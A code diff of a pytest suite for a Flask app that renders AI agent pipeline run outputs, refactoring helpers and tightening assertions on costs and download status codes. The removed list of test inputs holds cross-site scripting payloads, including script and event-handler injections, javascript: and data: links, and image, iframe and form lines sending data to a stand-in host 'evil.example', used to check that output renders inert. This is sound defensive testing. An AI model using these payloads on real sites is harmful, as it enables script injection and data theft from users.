@@ -10,25 +10,17 @@ from typing import Any
 
 import pytest
 from flask import Flask
-from markupsafe import escape
 from flask.testing import FlaskClient
+from markupsafe import escape
 
 from artifacts_app import recording, rendering
 from artifacts_app.extensions import db
 from artifacts_app.models import PipelineRun, User
-from tests.factories import make_run, make_user
+from tests.factories import HOSTILE_OUTPUTS, make_run, make_user, steps
 from tests.http_helpers import without_csrf_tokens
 
 HX = {"HX-Request": "true"}
 SELECTED = re.compile(r'<a role="tab" id="tab-([a-z0-9-]+)"[^>]*aria-selected="true"')
-
-
-def steps(*outputs: str, **extra: Any) -> list[dict[str, Any]]:
-    names = ["Researcher", "Analyst", "Writer", "Editor"]
-    return [
-        {"agentId": names[i].lower(), "agentName": names[i], "output": output, "stepOrder": i, **extra}
-        for i, output in enumerate(outputs)
-    ]
 
 
 @pytest.fixture
@@ -88,7 +80,7 @@ def test_step_with_its_own_usage_shows_its_model_tokens_and_cost(signed_in: Flas
     run = make_run(user, steps=mixed, usage=None)
     fragment = signed_in.get(f"/artifacts/{run.id}?tab=step-2", headers=HX).get_data(as_text=True)
     assert "claude-haiku-4-5" in fragment and 'title="1,000 tokens">1K<' in fragment
-    assert 'title="$0.002000000000">$0.0020<' in fragment or 'title="$0.002000000000">$0.002<' in fragment
+    assert 'title="$0.002000000000">$0.002<' in fragment  # 1,000 × $1/M + 200 × $5/M
 
 
 def test_a_failed_run_shows_its_error_and_the_steps_that_completed(signed_in: FlaskClient, user: User) -> None:
@@ -113,24 +105,7 @@ def test_a_legacy_run_shows_its_text_output_as_the_only_tab(signed_in: FlaskClie
     assert download.get_data(as_text=True) == "## Legacy *text*"
 
 
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)><circle/></svg>",
-    "[click](javascript:alert(1))",
-    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    '<a href="javascript:alert(1)">raw link</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">raw data link</a>',
-    "![leak](https://evil.example/collect?secret=1)",
-    '<div hx-get="/logout" hx-trigger="load">htmx</div>',
-    "<iframe src=https://evil.example></iframe>",
-    "<form action=https://evil.example><input name=x></form>",
-    "<style>body{display:none}</style>",
-    "<textarea>unclosed",
-]
-
-
-@pytest.mark.parametrize("hostile", HOSTILE)
+@pytest.mark.parametrize("hostile", HOSTILE_OUTPUTS)
 def test_hostile_output_renders_inert(signed_in: FlaskClient, user: User, hostile: str) -> None:
     run = make_run(user, steps=steps(hostile), final_output=hostile)
     html = signed_in.get(f"/artifacts/{run.id}?tab=step-1").get_data(as_text=True)
@@ -262,5 +237,6 @@ def test_downloads_carry_the_right_headers_and_bytes(signed_in: FlaskClient, use
     step = json.loads(signed_in.get(f"/artifacts/{run.id}/download?part=step-2&format=json").get_data())
     assert step == {"run": run.id, "part": "step-2", "output": "beta", "agentId": "analyst",
                     "agentName": "Analyst", "stepOrder": 1}
-    for bad in ("part=step-7", "part=everything", "format=pdf"):
-        assert signed_in.get(f"/artifacts/{run.id}/download?{bad}").status_code in (400, 404)
+    # A step the run does not have is missing; a part or format that cannot exist is a bad request.
+    for bad, status in (("part=step-7", 404), ("part=everything", 400), ("format=pdf", 400)):
+        assert signed_in.get(f"/artifacts/{run.id}/download?{bad}").status_code == status, bad
